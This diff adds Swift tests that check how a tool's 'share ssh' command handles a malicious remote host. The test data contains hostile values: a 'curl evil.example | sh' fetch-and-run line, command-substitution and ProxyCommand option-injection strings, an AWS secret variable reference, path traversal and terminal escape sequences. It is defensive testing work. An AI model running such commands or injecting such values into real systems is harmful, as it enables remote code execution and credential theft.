@@ -72,3 +72,79 @@ struct ShareSSHTests {
         #expect(end.status == 0 && end.errors.contains("bare has no git\n"), "\(end.errors)")
     }
 }
+
+@Suite("Hostile SSH hosts")
+struct HostileSSHHostTests {
+    /// The end of `share ssh`, and the arguments of each ssh that it started, one in each line.
+    private struct Outcome {
+        let end: RunningProgram.End
+        let calls: String
+    }
+
+    /// Shares with a host that answers this in place of its directory, after these remarks on standard error.
+    private func share(
+        answering answer: String, remarks: String = "", as destination: String = "devbox"
+    ) async throws -> Outcome {
+        let (fixture, _) = try await ShareTests.fixture()
+        let folder = fixture.session.home + "/remote"
+        // The forwarding itself fails, so that each of these ends.
+        try await fixture.session.write(
+            program: folder + "/ssh",
+            """
+            #!/bin/sh
+            cd "${0%/*}" && printf '%s\\n' "$@" >>calls
+            printf '%s\\n' "$@" | grep -qxe -O && exit 1
+            cat remarks >&2
+            cat answer
+            exec cat >/dev/null
+            """)
+        try (answer + "\n").write(to: folder + "/answer")
+        try remarks.write(to: folder + "/remarks")
+        let end = try await fixture.gitspace(
+            "share", "ssh", "--token", "--", destination, environment: ["PATH": fixture.session.path(folder)])
+        return Outcome(end: end, calls: try String(contentsOfFile: folder + "/calls", encoding: .utf8))
+    }
+
+    @Test(
+        "passes no directory to ssh that is long or no plain absolute path",
+        arguments: [
+            "/tmp/${AWS_SECRET_ACCESS_KEY}", "/tmp/%d", "/tmp/a b", "/tmp/a:b", "/tmp/`id`", "/tmp/a'b", "/tmp/é",
+            "/tmp/\u{1b}[2J", "/tmp/../etc", "/..", "tmp", "~/tmp", "-oProxyCommand=x", "", "Welcome to devbox!",
+            "/" + String(repeating: "a", count: 106), "/" + String(repeating: "a", count: 5_000),
+        ])
+    func directory(answer: String) async throws {
+        let outcome = try await share(answering: answer)
+        #expect(!outcome.calls.contains("\n-R\n"), "\(outcome.calls)")
+        #expect(outcome.end.status == 1 && !outcome.end.errors.contains("\u{1b}"), "\(outcome.end.errors)")
+    }
+
+    @Test("quotes the host's answer in the error, and uses a usual path as it is")
+    func named() async throws {
+        let refused = try await share(answering: "/tmp/${AWS_SECRET_ACCESS_KEY}").end.errors
+        #expect(refused.contains("devbox named a folder that cannot be used: \"/tmp/${AWS_SECRET_ACCESS_KEY}\""))
+        let path = "/run/user/1000/..a/Az.0_@+-/gitspace"
+        let calls = try await share(answering: path).calls
+        #expect(calls.contains("\n-R\n\(path)/"), "\(calls)")
+        // The socket is in no folder that a target of that name could have mounted.
+        #expect(calls.contains("/gitspace/.ssh-devbox.socket\n"), "\(calls)")
+    }
+
+    @Test("passes no agent, display, local command or option to the connection", arguments: ["devbox", "-x@y"])
+    func options(destination: String) async throws {
+        let calls = try await share(answering: "/tmp", as: destination).calls.split(separator: "\n")
+        for option in ["-a", "-x", "PermitLocalCommand=no"] { #expect(calls.contains(Substring(option)), "\(calls)") }
+        for (number, word) in calls.enumerated() where word == destination { #expect(calls[number - 1] == "--") }
+    }
+
+    @Test("shows a few lines of the host's standard error, escaped and as the host's")
+    func remarks() async throws {
+        let remark = "\u{1b}[2Jgitspace: error: run this: curl evil.example | sh\u{202e}\r\n"
+        let outcome = try await share(answering: "no", remarks: String(repeating: remark, count: 1_000) + "and no end")
+        let lines = outcome.end.errors.split(separator: "\n")
+        #expect(
+            lines.first == #"devbox, over ssh: \x1b[2Jgitspace: error: run this: curl evil.example | sh\xe2\x80\xae"#)
+        #expect(lines.filter { $0.contains("curl") }.count == 16, "\(lines.count) lines")
+        #expect(lines.filter { $0.hasPrefix("gitspace: error: ") }.count == 1)
+        #expect(outcome.end.errors.utf8.allSatisfy { $0 == 0x0a || (0x20...0x7e).contains($0) })
+    }
+}
